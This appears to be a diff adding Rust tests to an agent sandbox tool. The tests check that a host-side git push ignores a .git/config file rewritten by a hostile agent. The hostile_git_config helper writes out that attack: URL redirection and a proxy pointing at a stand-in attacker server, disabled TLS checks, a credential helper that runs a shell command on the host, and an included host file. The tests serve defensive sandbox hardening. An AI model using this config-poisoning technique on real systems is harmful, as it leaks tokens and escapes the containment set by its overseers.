@@ -12,7 +12,7 @@ mod support;
 use std::path::Path;
 use std::process::{Command, Output};
 
-use git_server::{git, git_available, make_repo, Daemon, HttpGit};
+use git_server::{git, git_available, make_repo, Daemon, HttpGit, Recorder};
 use support::{shell_agent, stderr, task_spec, Home};
 
 /// A token distinctive enough to grep for.
@@ -415,4 +415,143 @@ fn status_diff_commit_and_push() {
     assert!(!std::fs::read_to_string(work.join(".git/config"))
         .unwrap()
         .contains(TOKEN));
+}
+
+/// Runs the `pushing-workspace` fixture (granted `events` and `git`): it clones `url`
+/// with the host variable `PUSH_TOKEN`, the agent runs `script` in a `subprocess`
+/// sandbox, then at release, the agent gone, the plugin commits, checks out
+/// `agent/work` and pushes it through the host's `git` capability.
+fn run_push_back(home: &Home, url: &str, script: &str) -> Output {
+    let execution = format!(
+        "workspace:\n  source: push-back\n  options:\n    url: {url}\n    branch: agent/work\n    tokenEnv: PUSH_TOKEN\nsandbox:\n  provider: subprocess\n  resources:\n    timeout: 60s\n{}",
+        shell_agent(script)
+    );
+    let path = home.dir.path().join("task.yaml");
+    std::fs::write(&path, task_spec("push-back", "work on it", &execution)).unwrap();
+    Command::new(env!("CARGO_BIN_EXE_agentgate"))
+        .args(["run", path.to_str().unwrap(), "--plugin-dir"])
+        .arg(support::fixture_plugins())
+        .args(["--grant", "pushing-workspace=events,git"])
+        .env("AGENTGATE_HOME", home.dir.path())
+        .env_remove("AGENTGATE_PLUGIN_PATH")
+        .env_remove("GITHUB_TOKEN")
+        .env("PUSH_TOKEN", TOKEN)
+        .output()
+        .expect("running agentgate")
+}
+
+/// What a hostile agent appends to the workspace's `.git/config` so that a host push
+/// goes to `attacker` (and hands it the token), runs a credential helper that writes
+/// `marker` on the host, and reads `include` (a host file the agent cannot write).
+fn hostile_git_config(real: &str, attacker: &str, marker: &Path, include: &Path) -> String {
+    format!(
+        "[url \"{attacker}\"]\n\tpushInsteadOf = {real}\n\tinsteadOf = {real}\n\
+         [http]\n\tproxy = {attacker}\n\textraHeader = X-Stolen: yes\n\tsslVerify = false\n\
+         [credential]\n\thelper = \"!sh -c \\\"echo pwned > {marker}\\\"\"\n\
+         [remote \"origin\"]\n\turl = {attacker}app.git\n\tpushurl = {attacker}app.git\n\
+         [core]\n\thooksPath = /tmp\n\
+         [include]\n\tpath = {include}\n",
+        marker = marker.display(),
+        include = include.display(),
+    )
+}
+
+/// The agent's script: it changes a file, rewrites `.git/config`, and says it ran.
+fn hostile_agent(config: &str) -> String {
+    format!(
+        "echo 'agent work' > WORK.md\ncat >> .git/config <<'EOF'\n{config}EOF\necho AGENT-RAN\n"
+    )
+}
+
+/// Break 4 of issue 16: a host push after the agent ran follows nothing the agent
+/// wrote in `.git/config`. The push reaches the URL recorded at the clone, the
+/// attacker's server sees no request at all, the credential helper never runs, and
+/// the token is written nowhere.
+#[test]
+fn a_host_push_ignores_what_the_agent_wrote_in_git_config() {
+    if !git_available() {
+        return;
+    }
+    let root = tempfile::tempdir().unwrap();
+    make_repo(root.path(), "app");
+    let server = HttpGit::start(root.path(), Some(TOKEN));
+    let attacker = Recorder::start();
+    let real = format!("http://127.0.0.1:{}/", server.port);
+    let marker = root.path().join("helper-ran");
+    // A host file the agent cannot write, included by the agent's config: it also
+    // sends pushes to the attacker.
+    let include = root.path().join("host.gitconfig");
+    std::fs::write(
+        &include,
+        format!("[url \"{}\"]\n\tpushInsteadOf = {real}\n", attacker.url()),
+    )
+    .unwrap();
+    let home = Home::new();
+    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
+    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));
+
+    // The agent ran and rewrote the config.
+    assert!(home.log("stdout.log").contains("AGENT-RAN"), "{}", stderr(&output));
+    let workspace = home.run_folder().join("workspace");
+    let written = std::fs::read_to_string(workspace.join(".git/config")).unwrap();
+    assert!(written.contains("pushInsteadOf"), "{written}");
+
+    assert!(
+        output.status.success(),
+        "{}\n{}",
+        stderr(&output),
+        home.result()
+    );
+    assert_eq!(attacker.seen(), Vec::<String>::new(), "the attacker was contacted");
+    let bare = root.path().join("app.git");
+    assert_eq!(
+        git(&bare, &["show", "refs/heads/agent/work:WORK.md"]),
+        "agent work"
+    );
+    assert_eq!(
+        git(&bare, &["rev-parse", "refs/heads/agent/work"]),
+        git(&workspace, &["rev-parse", "HEAD"])
+    );
+    assert!(!marker.exists(), "the agent's credential helper ran on the host");
+    assert!(!written.contains(TOKEN));
+    assert_eq!(files_containing(home.dir.path(), TOKEN), Vec::<String>::new());
+}
+
+/// A push the real server refuses fails the release with an error that names the URL
+/// recorded at the clone, never the one the agent wrote in `.git/config`.
+#[test]
+fn a_refused_host_push_names_the_recorded_url() {
+    if !git_available() {
+        return;
+    }
+    let root = tempfile::tempdir().unwrap();
+    let repo = make_repo(root.path(), "app");
+    let hook = repo.bare.join("hooks/pre-receive");
+    std::fs::write(&hook, "#!/bin/sh\necho no pushes here >&2\nexit 1\n").unwrap();
+    std::fs::set_permissions(
+        &hook,
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let server = HttpGit::start(root.path(), Some(TOKEN));
+    let attacker = Recorder::start();
+    let real = format!("http://127.0.0.1:{}/", server.port);
+    let marker = root.path().join("helper-ran");
+    let include = root.path().join("host.gitconfig");
+    std::fs::write(&include, "[core]\n\tautocrlf = false\n").unwrap();
+    let home = Home::new();
+    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
+    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));
+
+    assert!(home.log("stdout.log").contains("AGENT-RAN"), "{}", stderr(&output));
+    assert!(!output.status.success(), "the refused push must fail the run");
+    let error = home.result()["error"].as_str().unwrap_or_default().to_string();
+    assert!(
+        error.contains(&format!("{}: the server rejected", server.url("app"))),
+        "{error}"
+    );
+    assert!(!error.contains(&attacker.url()), "{error}");
+    assert_eq!(attacker.seen(), Vec::<String>::new(), "the attacker was contacted");
+    assert!(!marker.exists(), "the agent's credential helper ran on the host");
+    assert_eq!(files_containing(home.dir.path(), TOKEN), Vec::<String>::new());
 }
